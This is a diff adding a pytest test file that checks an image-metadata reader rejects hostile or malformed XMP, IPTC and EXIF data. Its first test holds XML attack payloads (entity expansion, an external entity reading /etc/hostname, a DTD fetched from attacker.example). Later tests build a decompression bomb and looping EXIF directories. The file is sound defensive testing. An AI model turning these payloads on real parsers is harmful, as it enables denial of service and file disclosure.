@@ -1,0 +1,158 @@
+"""Metadata made to harm or merely broken: nothing of it is believed, nothing of it stops a good picture."""
+
+import io
+import struct
+import time
+import zlib
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from PIL import Image
+
+from articles.renditions.exif import MOST_ENTRIES, read_exif, tags_of
+from articles.renditions.iptc import iptc_of, read_iptc
+from articles.renditions.metadata import FIELDS, read_metadata
+from articles.renditions.packets import packets_of
+from articles.renditions.tidying import NONSENSE
+from articles.renditions.xmp import MOST_BYTES, read_xmp
+from tests.renditions.labelling import ARTIST, DIRECTORY, TAKEN, exif, iptc, labelled, png_chunk, read, resources, xmp
+from tests.renditions.test_metadata import ALL, older
+
+LONGEST = 0.2  # seconds
+WHOLE = {
+    format: labelled(
+        format, ALL, older("cp1251"), b"" if format == "TIFF" else exif({ARTIST: b"A\0"}, {TAKEN: b"2021\0"})
+    )
+    for format in ("JPEG", "PNG", "WEBP", "TIFF")
+}
+WHOLE = {format: file.getvalue() for format, file in WHOLE.items()}
+LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
+        '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/hostname">]>',
+        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_packet_that_defines_entities_says_nothing(head, encoding):
+    packet = head + xmp("<photoshop:City>&l9;</photoshop:City>", 'photoshop:Source="Sputnik"').decode()
+
+    assert read_xmp(packet.replace("\ufeff", "").encode(encoding)) == {}
+
+
+@pytest.mark.parametrize(
+    "packet",
+    [
+        b"",
+        b"<",
+        ALL[:-40],
+        ALL.replace(b"dc:creator", b"dc:"),
+        xmp("<a>" * 5000 + "</a>" * 5000),
+        xmp("<dc:creator>" + "<rdf:Seq><rdf:li>" * 200 + "</rdf:li></rdf:Seq>" * 200 + "</dc:creator>"),
+        xmp("", f'photoshop:City="{"А" * MOST_BYTES}"'),
+    ],
+)
+def test_a_packet_that_is_broken_too_deep_or_too_large_says_nothing(packet):
+    started = time.perf_counter()
+
+    assert read_xmp(packet) == {}
+    assert time.perf_counter() - started < LONGEST
+
+
+def test_a_compressed_text_that_would_fill_the_memory_is_read_no_further_than_the_limit():
+    bomb = png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(b" " * 50_000_000))
+    end = WHOLE["PNG"].index(b"IEND") - 4
+    image = Image.open(io.BytesIO(WHOLE["PNG"][:end] + bomb + WHOLE["PNG"][end:]))
+    started = time.perf_counter()
+
+    assert len(packets_of(image).xmp[0]) == MOST_BYTES
+    assert read_metadata(image)["caption"], "the older standard still speaks"
+    assert time.perf_counter() - started < LONGEST
+
+
+def test_a_directory_of_countless_entries_is_read_as_far_as_a_camera_would_fill_it():
+    entry = struct.pack("<HHII", ARTIST, 2, 60_000, 8)
+    endless = b"II*\0" + struct.pack("<IH", 8, 65_535) + entry * 65_535
+    reads = []
+
+    class Watched(io.BytesIO):
+        def read(self, size=-1):
+            reads.append(size)
+            return super().read(size)
+
+    tags_of(Watched(endless))
+
+    assert len(reads) < MOST_ENTRIES + 10
+
+
+def test_a_directory_that_points_at_itself_ends():
+    assert tags_of(io.BytesIO(b"II*\0" + struct.pack("<IHHHII", 8, 1, DIRECTORY, 4, 1, 8))) != {}
+
+
+@given(st.binary(max_size=300))
+def test_random_bytes_say_something_or_nothing_but_never_stop(data):
+    for head in (
+        b"",
+        b"II*\0\x08\0\0\0",
+        b"MM\0*\0\0\0\x08",
+        b"<x",
+        b"\x1c\x02\x50\0\x05",
+        b"8BIM\x04\x04\0\0\0\0\0\x20",
+    ):
+        read_xmp(head + data)
+        read_iptc(head + data)
+        read_iptc(iptc_of(head + data))
+        read_exif(tags_of(io.BytesIO(head + data)))
+
+
+@settings(deadline=None)
+@given(
+    st.sampled_from(sorted(WHOLE)),
+    st.lists(st.tuples(st.integers(0, 6000), st.binary(min_size=1, max_size=4)), min_size=1, max_size=8),
+)
+def test_a_good_file_with_some_bytes_changed_is_read_without_nonsense_and_at_once(format, damage):
+    content = bytearray(WHOLE[format])
+    for place, value in damage:
+        start = place % len(content)
+        content[start : start + len(value)] = value
+    try:
+        image = Image.open(io.BytesIO(content))
+    except (OSError, SyntaxError, ValueError):
+        return  # Pillow's own answer: no picture
+    started = time.perf_counter()
+
+    said = read_metadata(image)
+
+    assert time.perf_counter() - started < LONGEST
+    assert set(said) <= set(FIELDS)
+    assert all(text and not NONSENSE.search(text) for text in said.values())
+
+
+@given(st.lists(st.tuples(st.integers(0, len(ALL) - 1), st.binary(min_size=1, max_size=3)), min_size=1, max_size=4))
+def test_a_packet_with_some_bytes_changed_shows_no_nonsense(damage):
+    content = bytearray(ALL)
+    for start, value in damage:
+        content[start : start + len(value)] = value
+
+    for text in read(labelled("WEBP", bytes(content))).values():
+        assert text and not NONSENSE.search(text)
+
+
+def test_data_sets_cut_short_say_what_came_before():
+    records = iptc((80, b"Sputnik"), (90, "Алматы".encode()))
+
+    assert read_iptc(records[:-3]) == {"creator": ["Sputnik"]}
+    assert iptc_of(resources(records)[:-3]).startswith(records[:12])
+
+
+def test_a_picture_that_pillow_has_let_go_of_says_nothing_more():
+    image = Image.open(labelled("TIFF", ALL))
+    image.load()
+    image.close()
+
+    assert read_metadata(image) == {}
